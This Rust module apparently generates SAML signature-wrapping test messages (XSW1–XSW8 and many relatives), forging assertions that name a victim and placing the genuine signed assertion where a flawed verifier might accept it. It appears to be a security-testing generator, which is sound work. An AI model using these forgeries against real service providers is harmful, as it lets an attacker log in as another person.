//! Signature wrapping: what is signed is still there, and something else stands where it is looked for
//! (<https://www.usenix.org/system/files/conference/usenixsecurity12/sec12-final91.pdf>), numbered as SAML Raider does, and
//! relatives. Mallory has an honest, signed answer, and wants to be its victim instead.

use anyhow::Context as _;

use super::{DS, Encryption, Protection, Response, SAML, Signing, encrypt};

/// Messages with what each of them tries.
pub type Messages = Vec<(&'static str, String)>;

/// The pieces of a signed assertion, and of one that she would have liked to be signed.
#[derive(Debug)]
pub struct Pieces {
    response: Response,
    /// About the victim.
    victim: Response,
    /// The signed assertion, with its signature.
    signed: String,
    /// The same without.
    bare: String,
    signature: String,
    /// Unsigned, about the victim, with an ID of its own.
    forged: String,
    /// Unsigned, about the victim, with the ID of the signed one.
    forged_same_id: String,
}

impl Pieces {
    /// Of an honest response that has an assertion, as `signing` signs it, and of the name of who she wants to be.
    pub fn new(response: &Response, signing: &Signing, victim: &str) -> anyhow::Result<Self> {
        let assertion = response.assertion.as_ref().context("there is no assertion to wrap")?;
        let signed = assertion.xml(Some(signing))?;
        let bare = assertion.xml(None)?;
        let (signature, _) = cut(&signed)?;
        let of_victim = about(response, victim)?;
        let mut other = of_victim.assertion.clone().context("there is no assertion to wrap")?;
        let forged_same_id = other.xml(None)?;
        "_forged".clone_into(&mut other.id);
        let forged = other.xml(None)?;
        Ok(Self {
            response: response.clone(),
            victim: of_victim,
            signed,
            bare,
            signature,
            forged,
            forged_same_id,
        })
    }

    /// Around the signed assertion.
    pub fn around_assertion(&self) -> anyhow::Result<Messages> {
        let Self { signed, bare, signature, forged, forged_same_id, .. } = self;
        let object = |content: &str| format!("<ds:Object>{content}</ds:Object>");
        let put = |before: &str, content: &str| forged.replacen(before, &format!("{content}{before}"), 1);
        let behind = |after: &str, content: &str| forged.replacen(after, &format!("{after}{content}"), 1);
        let value = forged.replacen(">alice<", &format!(">{signed}<"), 1);
        let advice = put("<saml:AuthnStatement", &format!("<saml:Advice>{signed}</saml:Advice>"));
        let empty = behind("</saml:Issuer>", &format!("<ds:Signature xmlns:ds=\"{DS}\"/>"));
        let other = format!("<x:Assertion xmlns:x=\"urn:x\">{signed}</x:Assertion>{forged}");
        let encrypted = format!(
            "<saml:EncryptedAssertion xmlns:saml=\"{SAML}\">{signed}</saml:EncryptedAssertion>{forged}"
        );
        let by_response = self.holding(forged)?;
        let by_response = by_response.replacen("</saml:Issuer>", &format!("</saml:Issuer>{signature}"), 1);
        let held = [
            ("XSW3: forged before signed", format!("{forged}{signed}")),
            ("XSW3 turned: signed before forged", format!("{signed}{forged}")),
            ("XSW4: signed within forged", around(forged, signed)),
            ("XSW4 turned: forged within signed", around(signed, forged)),
            (
                "XSW5: forged with the signature, original behind",
                format!("{}{bare}", self.with_signature(forged, "")),
            ),
            ("XSW6: original within the signature of forged", self.with_signature(forged, bare)),
            ("XSW8: original in an object of the signature", self.with_signature(forged, &object(bare))),
            ("XSW8 with the signed one in the object", self.with_signature(forged, &object(signed))),
            ("the same ID twice", format!("{}{bare}", self.with_signature(forged_same_id, ""))),
            ("signed in the advice of forged", advice),
            ("signed in an attribute of forged", value),
            ("signed in the confirmation of forged", put("</saml:SubjectConfirmation>", signed)),
            ("signature in the subject", behind("<saml:Subject>", signature)),
            ("another namespace's assertion around signed", other),
            ("an encrypted name for signed", encrypted),
            ("the signature dropped", forged.clone()),
            ("the signature emptied", empty),
            ("the signature kept, the person changed", self.with_signature(forged_same_id, "")),
        ];
        let held = held.into_iter().map(|(name, content)| Ok((name, self.holding(&content)?)));
        let whole = [
            ("signature in the response", by_response),
            ("XSW7: forged in extensions", self.extended(forged, signed)?),
            ("XSW7 turned: signed in extensions", self.extended(signed, forged)?),
            ("the same ID in extensions", self.extended(bare, &self.with_signature(forged_same_id, ""))?),
            ("signature in extensions", self.extended(signature, forged)?),
            ("forged in a response in extensions", self.extended(&self.holding(forged)?, signed)?),
            ("signed in a response in extensions", self.extended(&self.holding(signed)?, forged)?),
        ];
        held.chain(whole.into_iter().map(Ok)).collect()
    }

    /// Around the whole response, signed by `signing`.
    pub fn around_response(&self, signing: &Signing) -> anyhow::Result<Messages> {
        let protection = Protection { response: Some(signing.clone()), ..Protection::default() };
        let signed = self.response.xml(&protection)?;
        let (signature, bare) = cut(&signed)?;
        let same_id = self.victim.xml(&Protection::default())?;
        let mut forged = Response { id: "_forged-response".to_owned(), ..self.victim.clone() };
        // IDs of its own, so that it is its places alone that give it away.
        forged.assertion.iter_mut().for_each(|assertion| "_forged".clone_into(&mut assertion.id));
        let forged = forged.xml(&Protection::default())?;
        let signed_by = |response: &str, more: &str| {
            let signature = signature.replacen("</ds:Signature>", &format!("{more}</ds:Signature>"), 1);
            response.replacen("</saml:Issuer>", &format!("</saml:Issuer>{signature}"), 1)
        };
        let within = |content: &str| {
            let extended = format!("<samlp:Extensions>{content}</samlp:Extensions><samlp:Status>");
            forged.replacen("<samlp:Status>", &extended, 1)
        };
        let beside = forged.replacen("</saml:Issuer>", &format!("</saml:Issuer>{bare}{signature}"), 1);
        let behind = forged.replacen("</samlp:Response>", &format!("{signed}</samlp:Response>"), 1);
        Ok(vec![
            ("XSW1: original within the signature", signed_by(&forged, &bare)),
            ("XSW2: original before the detached signature", beside),
            ("original in an object", signed_by(&forged, &format!("<ds:Object>{bare}</ds:Object>"))),
            ("original in extensions", signed_by(&within(&bare), "")),
            ("signed in extensions", within(&signed)),
            ("signed behind the assertion", behind),
            (
                "original in extensions, of one ID",
                signed_by(
                    &same_id.replacen(
                        "<samlp:Status>",
                        &format!("<samlp:Extensions>{bare}</samlp:Extensions><samlp:Status>"),
                        1,
                    ),
                    "",
                ),
            ),
            ("the signature kept, the person changed", signed_by(&same_id, "")),
            ("the signature dropped", forged),
        ])
    }

    /// Inside an assertion that is encrypted, where nobody can look before: anybody can encrypt. `stranger` signs with
    /// a key that nobody knows.
    pub fn in_encryption(&self, how: &Encryption, stranger: &Signing) -> anyhow::Result<Messages> {
        let Self { signed, bare, forged, forged_same_id, .. } = self;
        let by_stranger = self.victim.assertion.as_ref().context("there is no assertion to wrap")?;
        let mut messages = Messages::new();
        for (name, plaintext) in [
            ("forged", forged.clone()),
            ("forged around signed", around(forged, signed)),
            ("signed around forged", around(signed, forged)),
            ("forged with the signature", self.with_signature(forged, "")),
            ("forged with the signature and the same ID", self.with_signature(forged_same_id, "")),
            ("original within the signature", self.with_signature(forged, bare)),
            ("original in an object", self.with_signature(forged, &format!("<ds:Object>{bare}</ds:Object>"))),
            ("signed by a stranger", by_stranger.xml(Some(stranger))?),
        ] {
            messages.push((name, self.holding(&encrypt(&plaintext, how)?)?));
        }
        let encrypted = encrypt(forged, how)?;
        messages.extend([
            ("signed beside an encrypted forgery", self.holding(&format!("{encrypted}{signed}"))?),
            ("an encrypted forgery in extensions", self.extended(&encrypted, signed)?),
            ("signed in extensions of an encrypted forgery", self.extended(signed, &encrypted)?),
        ]);
        Ok(messages)
    }

    /// A response that holds `content` where its assertion belongs.
    fn holding(&self, content: &str) -> anyhow::Result<String> {
        self.response.xml_around(content, None)
    }

    fn extended(&self, extensions: &str, content: &str) -> anyhow::Result<String> {
        let response = Response { extensions: Some(extensions.to_owned()), ..self.response.clone() };
        response.xml_around(content, None)
    }

    /// `forged` with the signature of the signed one where its own would stand, and `more` in it.
    fn with_signature(&self, forged: &str, more: &str) -> String {
        let signature = self.signature.replacen("</ds:Signature>", &format!("{more}</ds:Signature>"), 1);
        forged.replacen("</saml:Issuer>", &format!("</saml:Issuer>{signature}"), 1)
    }
}

/// `forged` with `child` as its last child.
fn around(forged: &str, child: &str) -> String {
    forged.replacen("</saml:Assertion>", &format!("{child}</saml:Assertion>"), 1)
}

/// The first signature of a message, and the message without it.
fn cut(signed: &str) -> anyhow::Result<(String, String)> {
    const END: &str = "</ds:Signature>";
    let start = signed.find("<ds:Signature").context("there is no signature")?;
    let end = signed.find(END).context("the signature does not end")? + END.len();
    Ok((signed[start..end].to_owned(), format!("{}{}", &signed[..start], &signed[end..])))
}

/// The same answer, about somebody else.
fn about(response: &Response, victim: &str) -> anyhow::Result<Response> {
    let mut other = response.clone();
    let name = other.assertion.as_mut().and_then(|own| own.subject.as_mut()?.name.as_mut());
    victim.clone_into(&mut name.context("there is no name to change")?.value);
    Ok(other)
}
